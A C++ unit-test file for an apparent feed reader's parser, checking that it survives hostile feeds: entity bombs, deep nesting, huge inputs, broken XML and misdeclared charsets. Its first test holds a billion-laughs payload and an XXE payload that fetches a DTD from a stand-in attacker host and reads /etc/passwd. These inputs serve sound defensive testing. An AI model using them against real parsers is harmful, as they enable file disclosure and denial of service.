// Feeds made to hurt: bombs, depth, size, broken XML, wrong charsets.

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <chrono>
#include <string>

#include "page/feed/feed.h"
#include "page/feed/opml.h"
#include "text/utf8.h"

namespace checkback {
namespace {

std::string Repeated(std::string_view text, std::size_t times) {
  std::string all;
  all.reserve(text.size() * times);
  for (std::size_t i = 0; i < times; ++i) all += text;
  return all;
}

std::string Rss(std::string_view items) {
  return "<rss version=\"2.0\"><channel>" + std::string(items) + "</channel></rss>";
}

std::string Utf16(std::string_view ascii, bool big_endian) {
  std::string wide = big_endian ? "\xFE\xFF" : "\xFF\xFE";
  for (const char c : ascii) {
    if (big_endian) wide += '\0';
    wide += c;
    if (!big_endian) wide += '\0';
  }
  return wide;
}

// A second or two is what they take, ten under sanitizers; a quadratic one takes hours.
class HostileFeed : public ::testing::Test {
 protected:
  void TearDown() override {
    EXPECT_LT(std::chrono::steady_clock::now() - begin_, std::chrono::minutes(1));
  }

 private:
  std::chrono::steady_clock::time_point begin_ = std::chrono::steady_clock::now();
};

TEST_F(HostileFeed, EntitiesOfADtdAreNeitherExpandedNorOpened) {
  std::string laughs = "<?xml version=\"1.0\"?><!DOCTYPE rss [<!ENTITY lol0 \"lol\">";
  for (int i = 1; i < 10; ++i) {
    laughs += "<!ENTITY lol" + std::to_string(i) + " \"" +
              Repeated("&lol" + std::to_string(i - 1) + ";", 10) + "\">";
  }
  const std::string file =
      "<!DOCTYPE rss [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;"
      "<!ENTITY lol9 SYSTEM \"file:///etc/passwd\">";
  const std::string quadratic = "<!DOCTYPE rss [<!ENTITY lol9 \"" + Repeated("a", 100'000) + "\">";
  for (const std::string& dtd : {laughs, file, quadratic}) {
    const Result<Feed> feed =
        ReadFeed(dtd + "]>" + Rss("<item><title>A &lol9; z</title></item>"), {});
    ASSERT_TRUE(feed) << feed.error().what;
    ASSERT_EQ(feed->items.size(), 1u);
    EXPECT_EQ(feed->items[0].title, "A &lol9; z");
    EXPECT_EQ(feed->damage, "");
  }
}

TEST_F(HostileFeed, AMillionLevelsAreRead) {
  const std::string nested = Repeated("<a>", 1'000'000) + "x" + Repeated("</a>", 1'000'000);
  const Result<Feed> feed =
      ReadFeed(Rss("<item><description>" + nested + "</description><title>T</title></item>"), {});
  ASSERT_TRUE(feed) << feed.error().what;
  ASSERT_EQ(feed->items.size(), 1u);
  EXPECT_EQ(feed->items[0].title, "T");
  EXPECT_FALSE(ReadFeed(Repeated("<a>", 1'000'000), {}));
  EXPECT_EQ(ReadFeed(Repeated("<a>", 3'000'000), {}).error().code, Errc::kTooLarge);
  EXPECT_FALSE(ReadFeed(Repeated("{\"a\":", 1'000'000), {}));
  EXPECT_FALSE(ReadOpml(Repeated("<outline>", 100'000)));
  const Result<Opml> opml = ReadOpml("<opml><body>" + Repeated("<outline text='a'>", 500'000) +
                                     "<outline xmlUrl='https://a.example/'/>" +
                                     Repeated("</outline>", 500'000) + "</body></opml>");
  ASSERT_TRUE(opml);
  ASSERT_EQ(opml->feeds.size(), 1u);
  EXPECT_EQ(opml->feeds[0].folders.size(), kMaxOpmlFolders);
}

TEST_F(HostileFeed, AMillionAttributesAreRead) {
  for (const std::string_view attribute : {" a='b'", " xmlns:a='b'", " xml:base='/b'"}) {
    const Result<Feed> feed = ReadFeed(
        Rss("<item" + Repeated(attribute, 1'000'000) + "><title>T</title><link>/1</link></item>"),
        {.url = "https://post.example/"});
    ASSERT_TRUE(feed) << feed.error().what;
    EXPECT_EQ(feed->items.size(), 1u);
  }
}

TEST_F(HostileFeed, AHugeTextIsRefusedOrCut) {
  const auto with_title = [](std::size_t bytes) {
    return ReadFeed(Rss("<item><title>" + std::string(bytes, 'a') + "</title></item>"), {});
  };
  const Result<Feed> too_large = with_title(100u << 20);
  ASSERT_FALSE(too_large);
  EXPECT_EQ(too_large.error().code, Errc::kTooLarge);
  EXPECT_EQ(too_large.error().what, "the feed has 100 MB; the most that is read is 50 MB");
  const Result<Feed> cut = with_title(49u << 20);
  ASSERT_TRUE(cut);
  EXPECT_EQ(cut->items[0].title.size(), kMaxFeedFieldBytes);
}

TEST_F(HostileFeed, AMillionItemsAreCutAndCounted) {
  const Result<Feed> xml = ReadFeed(Rss(Repeated("<item><title>x</title></item>", 900'000)), {});
  ASSERT_TRUE(xml) << xml.error().what;
  EXPECT_EQ(xml->items.size(), kMaxFeedItems);
  EXPECT_EQ(xml->skipped, 900'000 - kMaxFeedItems);
  const Result<Feed> more = ReadFeed(Rss(Repeated("<item><title>x</title></item>", 1'000'000)), {});
  ASSERT_FALSE(more);
  EXPECT_EQ(more.error().what, "the XML has over 2000000 elements and attributes");
  const Result<Feed> json = ReadFeed("{\"items\":[{}" + Repeated(",{}", 900'000) + "]}", {});
  ASSERT_TRUE(json) << json.error().what;
  EXPECT_EQ(json->items.size(), 0u);
}

TEST_F(HostileFeed, WhatAFeedSaysOnceDoesNotGrowWithItsItems) {
  const std::string authors =
      Repeated("<author><name>" + std::string(10'000, 'n') + "</name></author>", 100);
  const Result<Feed> atom =
      ReadFeed("<feed xmlns='http://www.w3.org/2005/Atom' xml:base='https://a.example/" +
                   std::string(5'000, 'b') + "/'>" + authors +
                   Repeated("<entry><title>x</title><link href='y'/></entry>", 50'000) + "</feed>",
               {.url = "https://post.example/"});
  ASSERT_TRUE(atom) << atom.error().what;
  EXPECT_EQ(atom->items.back().url, "https://post.example/y");
  EXPECT_LE(atom->items.back().authors.size() * atom->items.back().authors[0].size(), 16u * 256u);
}

TEST_F(HostileFeed, MarksThatAreNeverClosedCostLinearTime) {
  for (const std::string_view mark :
       {"<!--", "<![CDATA[", "<?", "<!", "<a b=\"", "<a b='", "</a", "<", "&", "<item>", "<a b=c ",
        "<!DOCTYPE [", "&lt;p ", "&lt;script&gt;", "&lt;!--", "&amp;"}) {
    SCOPED_TRACE(mark);
    const std::string many = Repeated(mark, 200'000);
    (void)ReadFeed(Rss("<item><title>" + many + "</title></item>"), {});
    (void)ReadFeed(Rss("<item><title>x</title>" + many), {});
  }
}

TEST_F(HostileFeed, BrokenXmlIsMendedAndTheByteNamed) {
  struct Case {
    std::string_view xml;
    std::string_view title;
  };
  const Case cases[] = {
      {"<rss><channel><item><title>a < b</title></item></channel></rss>", "a < b"},
      {"<rss><channel><item><title>x</title><p>y</item></channel></rss>", "x"},
      {"<rss><channel><item><title>x</title></b></item></channel></rss>", "x"},
      {"<rss><channel><item><title lang=en>x</title></item></channel></rss>", "x"},
      {"<rss><channel><item><title>x<br>y</title></item></channel></rss>", "x y"},
      {"<rss><channel><item><title>x</title></item></channel></rss", "x"},
      {"<rss><channel><item><title>x</title></item><item><title>y</title><link>https://a.ex", "x"},
      {"<rss><channel><item><title>x</title></item><item><title><![CDATA[y", "x"},
      {"junk <rss><channel><item><title>x<b></title></item></channel></rss>", "x"},
  };
  for (const Case& c : cases) {
    const Result<Feed> feed = ReadFeed(c.xml, {});
    ASSERT_TRUE(feed) << c.xml << ": " << feed.error().what;
    EXPECT_THAT(feed->damage, ::testing::StartsWith("at byte ")) << c.xml;
    ASSERT_EQ(feed->items.size(), 1u) << c.xml;
    EXPECT_EQ(feed->items[0].title, c.title) << c.xml;
  }
  EXPECT_EQ(ReadFeed("<rss><channel>\n<item></b></item></channel></rss>", {})->damage,
            "at byte 23 (line 2): Start-end tags mismatch");
}

TEST_F(HostileFeed, CharsetsAreToldAsForPages) {
  const std::string xml = Rss("<item><title>Caf\xE9</title></item>");
  const std::string declared = "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>" + xml;
  const std::string lies = "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>" +
                           Rss("<item><title>Caf\u00E9 na\u00EFf</title></item>");
  EXPECT_EQ(ReadFeed(declared, {})->items[0].title, "Caf\u00E9");
  EXPECT_EQ(ReadFeed(lies, {})->items[0].title, "Caf\u00E9 na\u00EFf");
  EXPECT_EQ(ReadFeed(xml, {.transport_charset = "windows-1252"})->items[0].title, "Caf\u00E9");
  const std::string ascii =
      "<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + Rss("<item><title>Ferry</title></item>");
  for (const bool big : {false, true})
    EXPECT_EQ(ReadFeed(Utf16(ascii, big), {})->items[0].title, "Ferry");
  EXPECT_EQ(ReadFeed("\xEF\xBB\xBF" + declared.substr(0, 44) + lies.substr(44), {})->items.size(),
            1u);
}

TEST_F(HostileFeed, BytesThatAreNoTextBecomeText) {
  const std::string_view titles[] = {{"a\0b", 3},    "a\x01\x1F z",           "\xED\xA0\x80",
                                     "\xFF\xFE\xFF", "&#0;&#1;&#xFFFFFFFF;x", "\u202Egnp.exe"};
  for (const std::string_view title : titles) {
    const Result<Feed> feed =
        ReadFeed(Rss("<item><title>T " + std::string(title) + "</title></item>"), {});
    ASSERT_TRUE(feed) << title;
    ASSERT_EQ(feed->items.size(), 1u);
    EXPECT_TRUE(IsValidUtf8(feed->items[0].title)) << title;
    EXPECT_EQ(feed->items[0].title.find('\0'), std::string::npos);
  }
}

}  // namespace
}  // namespace checkback
